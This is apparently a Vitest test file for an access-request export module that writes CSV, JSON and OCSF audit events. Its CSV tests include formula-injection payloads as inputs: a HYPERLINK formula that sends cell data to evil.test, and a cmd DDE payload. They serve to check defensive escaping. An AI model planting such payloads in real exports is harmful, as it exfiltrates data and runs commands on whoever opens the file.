import { expect, test } from 'vitest';
import type { AccessRequest } from '../../model/index.ts';
import { accessRequest } from './access-request.fixture.ts';
import { csvCell, csvHeader } from './csv.ts';
import { type ExportFormat, type ExportKey, exportRequests, type RequestRows } from './index.ts';
import { requiredMissing } from './ocsf-schema.fixture.ts';
import { ocsfEvents } from './ocsf.ts';

const rowsOf =
  (requests: readonly AccessRequest[]): RequestRows<string> =>
  async (_, after: ExportKey | undefined, limit) => {
    const from = after === undefined ? 0 : requests.findIndex(({ id }) => id === after.id) + 1;
    return requests.slice(from, from + limit);
  };

const chunksOf = async (
  requests: readonly AccessRequest[],
  format: ExportFormat,
  byteOrderMark = false,
): Promise<string[]> => {
  const product = { version: '1.2.3' };
  const rows = rowsOf(requests);
  const chunks: string[] = [];
  for await (const chunk of exportRequests({ rows, filter: '', format, byteOrderMark, product })) {
    chunks.push(chunk);
  }
  return chunks;
};

const textOf = async (...wanted: Parameters<typeof chunksOf>): Promise<string> =>
  (await chunksOf(...wanted)).join('');

test.for([
  ['=1+1', "'=1+1"],
  ['+49 171', "'+49 171"],
  ['-5', "'-5"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ['\t=1', "'\t=1"],
  ['\rx', `"'\rx"`],
  [' =1', "' =1"],
  ['=HYPERLINK("http://evil.test?"&A1,"x")', `"'=HYPERLINK(""http://evil.test?""&A1,""x"")"`],
  ['\uFF1D1', "'\uFF1D1"],
  ['a=b', 'a=b'],
  ['a,b', '"a,b"'],
  ['say "no"', '"say ""no"""'],
  ['two\nlines', '"two\nlines"'],
  ['', ''],
] as const)('the cell %j is written %j', ([text, cell]) => {
  expect(csvCell(text)).toBe(cell);
});

test('CSV has a header, CRLF, as many cells in every row, and a byte order mark for who wants it', async () => {
  const text = await textOf([accessRequest(1)], 'csv');

  const [header, row, end] = text.split('\r\n');
  expect(`${header}\r\n`).toBe(csvHeader());
  expect(row?.split(',')).toHaveLength(header?.split(',').length ?? 0);
  expect(end).toBe('');
  expect(await textOf([accessRequest(1)], 'csv', true)).toBe(`\uFEFF${text}`);
});

test('what people write cannot become a formula or a row of its own', async () => {
  const text = await textOf(
    [accessRequest(1, { justification: '=cmd|"/c calc"!A1\r\nr-2,active', closedReason: '@x' })],
    'csv',
  );

  expect(text).toContain(`"'=cmd|""/c calc""!A1\r\nr-2,active"`);
  expect(text).toContain(",'@x,");
});

test.for(['csv', 'json', 'ocsf'] as const)(
  '%s: every request once, in pages, bounded chunks',
  async (format) => {
    const requests = Array.from({ length: 450 }, (_, at) => accessRequest(at));

    const chunks = await chunksOf(requests, format);

    const text = chunks.join('');
    for (const { id } of requests) expect(text).toContain(id);
    expect(Math.max(...chunks.map((chunk) => chunk.length))).toBeLessThan(1_000_000);
    expect(chunks.length).toBeGreaterThanOrEqual(3);
  },
);

test('50 000 requests pass in small chunks, a page at a time, and only as fast as they are taken', async () => {
  const [total, one] = [50_000, accessRequest(1)];
  let read = 0;
  const rows: RequestRows<string> = async (_, after, limit) => {
    const from = after === undefined ? 0 : Number(after.id) + 1;
    const page = Array.from({ length: Math.min(limit, total - from) }, (__, index) => ({
      ...one,
      id: String(from + index),
    }));
    read += page.length;
    return page;
  };
  const product = { version: '1.2.3' };
  let [taken, longest, ahead] = [0, 0, 0];

  for await (const chunk of exportRequests({ rows, filter: '', format: 'json', product })) {
    taken += chunk.split('\n{').length - 1;
    longest = Math.max(longest, chunk.length);
    ahead = Math.max(ahead, read - taken);
  }

  expect([taken, read]).toEqual([total, total]);
  expect(longest).toBeLessThan(20_000);
  expect(ahead).toBeLessThanOrEqual(100);
});

test('JSON is one array of requests with their fields', async () => {
  const requests = [accessRequest(1), accessRequest(2)];

  const found: unknown = JSON.parse(await textOf(requests, 'json'));

  expect(found).toMatchObject([
    { id: requests[0]?.id, fields: { ticket: 'INC-1' }, createdAt: '2026-11-25T12:00:01.000Z' },
    { id: requests[1]?.id },
  ]);
  expect(JSON.parse(await textOf([], 'json'))).toEqual([]);
});

const classesOf = (request: AccessRequest): readonly unknown[] =>
  ocsfEvents(request, { version: '1.2.3' }).map((event) => Reflect.get(event, 'type_uid'));

const at = (seconds: number): Date => new Date(Date.UTC(2026, 10, 25, 12, 0, seconds));
const approved = accessRequest(1).approvals;
const none = { startsAt: undefined, endsAt: undefined };

test.for([
  ['pending', { state: 'pending', approvals: [], ...none }, [300401]],
  ['rejected', { state: 'rejected', closedAt: at(20), ...none }, [300401, 300403]],
  ['expired', { state: 'expired', approvals: [], closedAt: at(20), ...none }, [300401, 300403]],
  ['active', { state: 'active', closedAt: undefined }, [300401, 300403, 300716]],
  ['ended', { state: 'ended', closedAt: at(90) }, [300401, 300403, 300716, 300717]],
  ['revoked', { state: 'revoked', closedAt: at(60) }, [300401, 300403, 300716, 300717]],
  ['revoked before its start', { state: 'revoked', closedAt: at(20) }, [300401, 300403, 300403]],
  [
    'reviewed',
    {
      state: 'ended',
      breakGlass: true,
      closedAt: at(90),
      review: { state: 'abuse', by: 'p-carol', comment: 'no', at: at(99) },
    },
    [300401, 300403, 300716, 300717, 300403],
  ],
] as const)('OCSF: a request that is %s', ([, members, expected]) => {
  expect(approved).toHaveLength(1);
  expect(classesOf(accessRequest(1, members))).toEqual(expected);
});

test('every OCSF event has what its class and its objects require in 1.9.0', async () => {
  const reviewed = { state: 'accepted', by: 'p-carol', comment: '', at: at(99) } as const;
  const requests = [
    accessRequest(1, { state: 'ended', closedAt: at(90), review: reviewed }),
    accessRequest(2, { state: 'pending', ...none }),
    accessRequest(3, { state: 'cancelled', closedAt: at(20), closedBy: 'p-ann', ...none }),
  ];

  const text = await textOf(requests, 'ocsf');

  const events = text
    .trim()
    .split('\n')
    .map((line): unknown => JSON.parse(line));
  expect(events).toHaveLength(5 + 2 + 3);
  for (const event of events) expect(requiredMissing(event)).toEqual([]);
});

test('OCSF says who got which role in which account, and until when', () => {
  const events = ocsfEvents(accessRequest(1, { state: 'active' }), { version: '1.2.3' });

  expect(events.at(-1)).toMatchObject({
    class_uid: 3007,
    activity_id: 16,
    time: at(30).getTime(),
    actor: { user: { uid: 'system', type_id: 3 } },
    user: { uid: 'p-ann', email_addr: 'ann@example.com' },
    iam_roles: [
      {
        uid: 'arn:aws:iam::111122223333:role/team/Admin',
        name: 'Admin',
        account: { uid: '111122223333', type_id: 10 },
      },
    ],
    message: expect.stringContaining('until 2026-11-25T12:01:30.000Z'),
  });
});
